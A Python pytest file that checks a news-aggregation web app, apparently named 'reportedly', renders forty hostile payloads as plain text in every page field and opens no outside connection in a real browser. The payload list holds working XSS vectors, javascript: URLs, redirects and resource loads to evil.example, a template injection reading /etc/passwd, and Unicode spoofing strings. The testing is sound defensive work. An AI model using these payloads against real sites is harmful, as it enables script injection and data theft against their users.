"""Forty hostile pages, read as any other: wherever their words are shown they are words, in real Chromium as well.

Each payload stands in the outlet, the title, the words said, the name of whoever said them and the rest of the text. In
the browser every page must leave a canary untouched, open no dialog, ask no other server and follow no link of itself.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest

from reportedly import pipeline
from reportedly.records import Article, Link, Report, Span, Statement, When, cut, digest
from reportedly.store import Desk
from reportedly.web import publish
from reportedly.web.clerk import Clerk
from tests.web.browsing import Browser, shown
from tests.web.conftest import client

PAYLOADS: Final = (
    "<script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>",
    "</style><script>window.hit=1</script>",
    "--><script>window.hit=1</script>",
    "]]><script>window.hit=1</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script\x0c>window.hit=1</script>",
    "<<script>window.hit=1//<</script>",
    "<img src=x onerror=window.hit=1>",
    '"><img src=x onerror=window.hit=1>',
    "'><img src=x onerror=window.hit=1>",
    '" onmouseover="window.hit=1" x="',
    "' onfocus='window.hit=1' autofocus tabindex=1 x='",
    '" autofocus onfocus=window.hit=1 ',
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><foreignObject><body onload=window.hit=1></svg>",
    "</svg><img src=x onerror=window.hit=1>",
    "<math><mtext><mglyph><style><img src=x onerror=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<object data=javascript:window.hit=1></object>",
    "<embed src=javascript:window.hit=1>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<div style=\"position:fixed;inset:0;background:url('https://evil.example/x')\">",
    "<form action=https://evil.example/><button>Search</button></form>",
    "<a href=javascript:window.hit=1>here</a>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<template><script>window.hit=1</script></template>",
    "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200fright",
    "\u0430dm\u0456n p\u0430yp\u0430l \uff1cscript\uff1ewindow.hit=1\uff1c/script\uff1e",
    "\x1b]0;mine\x07\x00\x08\x7f\x9b31m",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=window.hit=1&#62;",
)


def _hostile(number: int, payload: str) -> Report:
    """A report that is hostile in every field that a page may show."""
    day = f"2031-03-{number % 28 + 1:02}"
    text = f"{payload} Sella {payload} Vint said that the dam {payload} held in 2031.\n\n{payload}"
    published = When(earliest=day, latest=day, value=day, precision="day", basis="metadata", zone=payload)
    article = Article(
        id=digest("article", str(number)),
        url=f"javascript:{payload}" if number % 2 else f"https://ok.example/{payload}",
        outlet=f"Outlet {payload}",
        title=f"Title {payload}",
        byline=(payload,),
        published=published,
        modified=None,
        captured=payload,
        language="en",
        text=text,
        page_sha256="0" * 64,
        media_type="text/html",
        truncated=True,
        removed=(payload,),
        dateline=None,
        credits=(),
        agencies=(payload,),
    )
    source = _span(text, f"Sella {payload} Vint")
    content = _span(text, f"the dam {payload} held")
    link = Link(
        source=source,
        entity=None,
        name=f"Sella {payload}",
        kind="person",
        cue=_span(text, "said"),
        certainty="PR+",
        hedges=(content,),
    )
    statement = Statement(
        id=digest("statement", str(number)),
        article=article.id,
        mode="indirect",
        content=(content,),
        chain=(link,),
        certainty="Uu",
        hedges=(source,),
        events=(),
        confidence=0.5,
        claim=None,
    )
    return Report(article=article, entities=(), statements=(statement,))


def _span(text: str, words: str) -> Span:
    start = text.index(words)
    return cut(text, start, start + len(words))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "desk.db"
    with Desk.open(path) as desk:
        for number, payload in enumerate(PAYLOADS):
            desk.add(f"page-{number}", _hostile(number, payload), reader="by hand", story_keys=("evil",))
        pipeline.settle(desk)
    return path


def _addresses(path: Path) -> Iterator[str]:
    with Clerk(path) as clerk:
        yield from ("/", "/about", "/search?q=dam")
        for line in clerk.desk(most=None).lines:
            yield from (f"/story/{line.id}", f"/timeline/{line.id}", f"/story/{line.id}?as-of=2031-03-20")
        for group in clerk.affairs():
            affair, _, reports, _ = clerk.affair(group)
            yield from (f"/claim/{claim.id}" for claim in affair.claims)
            yield from (f"/report/{read.article.id}" for read in reports)


def test_there_are_forty() -> None:
    assert len(set(PAYLOADS)) == 40


def test_their_markup_is_words_and_their_controls_are_seen(hostile: Path) -> None:
    with Clerk(hostile) as clerk, client(clerk) as browsing:
        addresses = list(_addresses(hostile))
        assert len(addresses) > 40
        for address in addresses:
            page = browsing.get(address)
            assert page.status_code == 200, address
            text = page.text
            tags = {tag.lower() for tag in re.findall(r"<([a-zA-Z]+)", text)}
            assert not tags & {
                "script",
                "style",
                "iframe",
                "object",
                "embed",
                "base",
                "img",
                "video",
                "math",
                "template",
            }
            assert not re.search(r"<[^>]*\son[a-z]+\s*=", re.sub(r'"[^"]*"', '""', text)), address
            assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), address
            assert not re.search(r'href="\s*(?:javascript|data):', text), address


@pytest.mark.parametrize(
    "payload", ['"><script>window.hit=1</script>', "</title><svg onload=window.hit=1>", "{{ 7*7 }}"]
)
def test_what_is_asked_for_is_words_too(hostile: Path, payload: str) -> None:
    with Clerk(hostile) as clerk, client(clerk) as browsing:
        page = browsing.get("/search", params={"q": payload}).text
        assert payload not in page or "<" not in payload
        assert "49" not in re.sub(r"[0-9a-f]{16}", "", page)


def test_nothing_of_them_happens_in_a_browser(hostile: Path, browser: Browser) -> None:
    with shown(hostile) as base:
        seen = browser.visit([f"{base}{address}" for address in _addresses(hostile)])
    assert seen == []


def test_nor_when_they_are_published(hostile: Path, browser: Browser, tmp_path: Path) -> None:
    publish(hostile, tmp_path / "out")
    pages = sorted((tmp_path / "out").rglob("*.html"))
    assert browser.visit([page.as_uri() for page in pages[:120]]) == []
